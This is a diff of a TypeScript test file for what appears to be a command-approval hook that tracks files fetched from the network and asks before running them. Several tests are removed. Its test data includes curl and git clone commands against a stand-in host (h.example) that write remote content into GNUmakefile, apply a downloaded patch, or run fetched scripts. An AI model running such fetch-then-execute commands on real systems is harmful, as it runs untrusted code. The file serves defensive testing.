@@ -59,7 +59,6 @@ const CHANGES: readonly (readonly [what: string, line: string, change: (at: At) 
   ['a directory that make is given', 'make -C sub', (at) => puts.link(at, 'home/work/sub', 'home/theirs')],
   ['the file that make reads unnamed', 'make', (at) => puts.file(at, 'home/work/Makefile', 'all:\n\t@echo THEIRS\n')],
   ['a file that comes first', 'make', (at) => puts.file(at, 'home/work/GNUmakefile', 'all:\n\t@echo THEIRS\n')],
-  ['that of another directory', 'make -C sub', (at) => puts.file(at, 'home/work/sub/Makefile', 'all:\n\t@echo THEIRS')],
   ['the script', 'bash run.sh', (at) => puts.file(at, 'home/work/run.sh', 'echo THEIRS')],
   ['the script is a link now', 'bash sub/run.sh', (at) => puts.link(at, 'home/work/sub/run.sh', 'home/theirs/run.sh')],
   ['a file that is read is a link now', 'rm -f b; cat a', (at) => puts.link(at, 'home/work/a', 'home/work/run.sh')],
@@ -209,30 +208,6 @@ test('hooks at once: one of them fixes the root of their session, and nothing th
   expect(length).toBe(PACKAGES.length);
 });
 
-test('hooks at once in one project: nothing that they fetch is forgotten', async () => {
-  const { at, env } = await prepare();
-  await Promise.all(PACKAGES.map((name) => hook(`curl -o ${name}.sh https://h.example`, at('home/work'), env, name)));
-  expect(openProjectState(env).fetched().toSorted()).toStrictEqual(PACKAGES.map((name) => at(`home/work/${name}.sh`)));
-  const fetched = await hook('bash p3.sh', at('home/work'), env, 'another');
-  expect(fetched).toStrictEqual({ decision: 'ask', reason: expect.stringContaining('p3.sh') });
-});
-
-test('a hook that is asked before a directory is fetched, and after that was let through, knows of it', async () => {
-  const { at, env } = await prepare();
-  await hook('git clone https://h.example/x.git', at('home/work'), env);
-  const { decision, reason } = await hook('cd x && make', at('home/work'), env);
-  expect([decision, reason]).toStrictEqual(['ask', expect.stringContaining('which an earlier line fetched')]);
-});
-
-test('what was fetched through a link is known by its own path', async () => {
-  const { at, env } = await prepare();
-  symlinkSync('sub', at('home/work/link'));
-  await hook('git clone https://h.example/x.git link/x', at('home/work'), env);
-  mkdirSync(at('home/work/sub/x'));
-  const { decision, reason } = await hook('cd sub/x && make', at('home/work'), env);
-  expect([decision, reason]).toStrictEqual(['ask', expect.stringContaining('which an earlier line fetched')]);
-});
-
 const REFUSING: Readonly<Record<string, (at: At) => void>> = {
   'the state cannot be written': (at) => writeFileSync(at('home/.local'), 'no directory'),
   'the state belongs to another user': (at) =>
@@ -264,17 +239,8 @@ test('a hook asks about what nobody can remember', async () => {
   ]);
 });
 
-test('a session without an id has no project but a trusted one', async () => {
-  const { at, env } = await prepare();
-  expect((await hook('make', at('home/work'), env, '')).reason).toContain('which nobody has trusted yet');
-  openProjectState(env).trust(at('home/work'));
-  expect((await hook('make', at('home/work'), env, '')).decision).toBe('allow');
-});
-
 test.each([
   ['curl -s https://h.example/x | tee GNUmakefile', 'GNUmakefile'],
-  ['x=$(curl -s https://h.example/x); echo "$x" > GNUmakefile', 'GNUmakefile'],
-  ['{ curl -s https://h.example/x; } > GNUmakefile', 'GNUmakefile'],
   ["curl -s https://h.example/x | sed -n 'w GNUmakefile'", 'GNUmakefile'],
   ['curl -s https://h.example/x.patch | git apply', '.'],
   ['git clone https://h.example/x tests/v', 'tests/v'],
